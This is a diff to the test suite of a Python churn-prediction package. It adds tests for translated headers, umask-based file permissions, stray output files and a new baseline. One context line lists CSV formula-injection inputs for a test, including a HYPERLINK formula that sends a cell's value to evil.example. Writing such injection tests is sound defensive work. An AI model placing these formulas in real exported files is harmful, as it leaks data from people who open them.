@@ -6,6 +6,7 @@ import multiprocessing
 import os
 import re
 import signal
+import stat
 import subprocess
 import sys
 import time
@@ -19,7 +20,7 @@ import churnml as cm
 from churnml.evaluation import population_stability
 from churnml.ops.retrain import _lock, retrain
 from churnml.ops.serving import score
-from churnml.output import write_outputs
+from churnml.output import for_people, write_outputs
 
 from tests.conftest import run_cli
 
@@ -35,6 +36,8 @@ def test_score_lists_every_customer_once_with_last_dates(sample, sample_model, t
     assert sorted(warnings.customer_id) == sorted(sample.to_pandas("customers").customer_id)
     assert {"last_order_date", "last_interaction_date", "primary_cause", "reasons"} <= set(warnings.columns)
     assert (warnings.last_order_date.dropna() < pd.Timestamp("2025-06-01")).all()
+    assert not set(for_people(warnings, "zh").columns) & set(warnings.columns)  # every header for people translated, the last dates too
+    assert {"last order", "last interaction"} <= set(for_people(warnings, "en").columns)
     saved = sample_model.save(tmp_path / "model")
     pd.testing.assert_frame_equal(score(sample, str(saved), "2025-06-01"), warnings)
 
@@ -54,6 +57,16 @@ def test_write_atomic_keeps_the_previous_list_when_a_write_fails(tmp_path, monke
         write_outputs(frame.assign(customer_id=["c", "d"]), tmp_path / "warnings")
     assert csv.read_bytes() == before
     assert sorted(p.name for p in tmp_path.iterdir()) == ["warnings.csv", "warnings.parquet"]  # no temporary file left
+
+
+@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
+def test_lists_get_the_permissions_the_umask_gives_new_files(tmp_path, umask, mode):
+    previous = os.umask(umask)
+    try:
+        written = write_outputs(pd.DataFrame({"customer_id": ["a"]}), tmp_path / "warnings")
+    finally:
+        os.umask(previous)
+    assert [stat.S_IMODE(p.stat().st_mode) for p in written] == [mode, mode]  # not tempfile's private 0600
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,1)", "@SUM(1,1)", "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\n@x"]
@@ -223,6 +236,9 @@ def test_killing_the_job_halfway_leaves_champion_and_warning_list_intact_and_the
 
     # a list written long enough ago for its labels to be complete now: the next run measures it
     write_outputs(score(sample, sample_model, "2025-03-01"), home / "out" / "warnings_2025-03-01")
+    # and files people leave beside them: ignored and named, not parsed as dates after the training
+    for stray in ("warnings_2025-03-01 (copy).parquet", "warnings_2025-13-45.parquet"):
+        (home / "out" / stray).write_bytes((home / "out" / "warnings_2025-03-01.parquet").read_bytes())
     # the next run takes the lock the kernel released, does the work and decides against the champion
     second = retrain(cfg, sample, "2026-01-01")
     assert second.decision in ("promoted", "kept_champion") and "champion" in second.reason
@@ -230,7 +246,7 @@ def test_killing_the_job_halfway_leaves_champion_and_warning_list_intact_and_the
     # the simple baselines on the same rows; on the sample LightGBM ranks better, so the reason has no note
     recency = second.baseline_metrics["recency"]
     assert 0.5 < recency["auc_roc"] < second.challenger_metrics["auc_roc"] and recency["ece"] is None
-    assert set(second.baseline_metrics) == {"recency", "rfm_logistic", "bgnbd"} and "ranks the test slice better" not in second.reason
+    assert set(second.baseline_metrics) == {"recency", "rfm_logistic", "bgnbd", "pareto_nbd"} and "ranks the test slice better" not in second.reason
     run = client.get_run(second.run_id)
     assert run.data.tags["churnml.decision"] == second.decision
     assert "drift.psi.days_since_last_activity" in run.data.metrics and "expected.level1.precision" in run.data.metrics
